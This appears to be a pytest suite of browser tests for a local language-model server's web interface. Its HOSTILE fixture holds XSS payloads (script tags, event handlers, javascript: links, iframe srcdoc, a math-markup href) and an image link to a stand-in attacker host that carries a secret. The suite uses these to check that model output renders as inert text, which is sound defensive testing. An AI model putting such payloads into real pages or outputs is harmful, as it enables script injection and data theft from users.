"""The page in a real browser, against the installed program: `tests/web/scenarios.mjs` says what is done there."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import REQUIRED
from gguf_files import write_model
from program import Server, StartServer

from appliance.engines.embedded import available
from appliance.engines.found import EMBEDDED, ENGINE_VARIABLE

pytestmark = pytest.mark.browser
ROOT = Path(__file__).resolve().parents[2]
SCENARIOS = ROOT / "tests" / "web" / "scenarios.mjs"
TIME = 120
COUNTING = {"FAKE_TOKENS": "400", "FAKE_TOKEN_DELAY": "0.05"}
DEEP = ">" * 10_000
HOSTILE = f"""<script>window.hit = 1</script>

<img src=x onerror="window.hit=1"> <svg onload="window.hit=1"><animate attributeName=href></svg>

![picture](https://evil.example/p.png?q=secret) [click](javascript:window.hit=1) [data](data:text/html,<script>)

[good](https://example.org/a) <javascript:alert(1)> <iframe srcdoc="<script>parent.hit=1</script>"></iframe>

turned \u202eround \x1b[31mred\x1b[0m **half

$$x^2 \\href{{javascript:alert(1)}}{{y}}$$

{DEEP} deep

```python
def f(): return "<b>"
```

{"a" * 60_000}
"""

Play = Callable[..., None]


@pytest.fixture
def play(tmp_path: Path) -> Play:
    """Run a scenario; ``steps`` are done when it asks for them by name."""
    node = shutil.which("node")
    chromium = os.environ.get("CHROMIUM", "/usr/bin/chromium")
    packages = ROOT / "appliance" / "web" / "node_modules" / "playwright-core"
    if node is None or not Path(chromium).exists() or not packages.is_dir():
        message = "the page's tests need Node, Chromium, and python3 bootstrap.py web"
        if os.environ.get(REQUIRED):
            pytest.fail(message)
        pytest.skip(message)

    def run(scenario: str, server: Server, *more: str, url: str = "", **steps: Callable[[], object]) -> None:
        command = [node, str(SCENARIOS), scenario, url or server.url, *more]
        environment = {**os.environ, "HOME": str(tmp_path), "PICTURE": f"/tmp/page-{scenario}.png"}
        told: list[str] = []
        with subprocess.Popen(
            ["timeout", str(TIME), *command],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=environment,
        ) as process:  # fmt: skip
            assert process.stdout is not None
            assert process.stdin is not None
            for line in process.stdout:
                told.append(line)
                step = steps.get(line.removeprefix(">> ").strip())
                if step is not None:
                    step()
                    process.stdin.write("done\n")
                    process.stdin.flush()
        assert process.returncode == 0, "".join(told) + server.told()
        assert told[-1] == ">> passed\n"

    return run


@pytest.fixture
def serve_fake(start_server: StartServer, fake_engine: Path, tmp_path: Path) -> Callable[..., Server]:
    """A server with one model, ``small``, on the scripted engine."""
    write_model(tmp_path / "small.gguf")

    def serve(*more: str, listen: str = "127.0.0.1:0", **env: str) -> Server:
        words = ("serve", "--listen", listen, "--model", "small.gguf", "--no-starter", "--no-stores", *more)
        return start_server(*words, env={ENGINE_VARIABLE: str(fake_engine), **env})

    return serve


@pytest.mark.parametrize("scenario", ["chat", "screens"])
def test_with_the_starter_model(play: Play, start_server: StartServer, scenario: str) -> None:
    if not available():
        pytest.skip("the embedded engine is not on this machine")
    words = ("serve", "--listen", "127.0.0.1:0", "--engine", EMBEDDED, "--threads", "1", "--no-stores")
    play(scenario, start_server(*words))


def test_an_answer_goes_on_through_a_reload_and_is_stopped_from_another_device(
    play: Play, serve_fake: Callable[..., Server]
) -> None:
    play("resume", serve_fake(**COUNTING))


def test_an_answer_is_complete_though_the_page_was_closed(play: Play, serve_fake: Callable[..., Server]) -> None:
    play("closed", serve_fake(FAKE_TOKENS="60", FAKE_TOKEN_DELAY="0.05"))


def test_the_page_outlives_a_killed_program(play: Play, serve_fake: Callable[..., Server]) -> None:
    server = serve_fake(FAKE_TOKENS="200", FAKE_TOKEN_DELAY="0.05")
    place = f"{server.host}:{server.port}"

    def kill() -> None:
        server.process.kill()
        server.process.wait(10)

    play("killed", server, kill=kill, start=lambda: serve_fake(listen=place))


def test_nothing_that_a_model_writes_is_more_than_text(play: Play, serve_fake: Callable[..., Server]) -> None:
    play("hostile", serve_fake(FAKE_SCRIPT=json.dumps([{"text": HOSTILE}])))


def test_files_and_parameters_reach_the_model(play: Play, serve_fake: Callable[..., Server]) -> None:
    play("files", serve_fake(FAKE_SCRIPT='[{"echo": true}]'))


def test_a_key_is_asked_for_once(play: Play, serve_fake: Callable[..., Server]) -> None:
    play("key", serve_fake("--api-key", "secret"))


def test_models_are_loaded_and_unloaded(play: Play, serve_fake: Callable[..., Server]) -> None:
    play("models", serve_fake())


def test_the_languages_have_the_same_words() -> None:
    sources = ROOT / "appliance" / "web" / "src"
    word = re.compile(r'^  (\w+): "(.*)",$', re.MULTILINE)
    english, german = (word.findall((sources / "i18n" / f"{name}.ts").read_text("utf-8")) for name in ("en", "de"))
    assert len(english) > 100
    assert [name for name, _ in english] == [name for name, _ in german]
    for (name, ours), (_, theirs) in zip(english, german, strict=True):
        assert sorted(re.findall(r"\{\w+\}", ours)) == sorted(re.findall(r"\{\w+\}", theirs)), name
    code = "".join(path.read_text("utf-8") for path in (*sources.rglob("*.svelte"), *(sources / "lib").glob("*.ts")))
    unused = [name for name, _ in english if f'"{name}"' not in code and name not in ("stopped", "interrupted")]
    assert unused == []
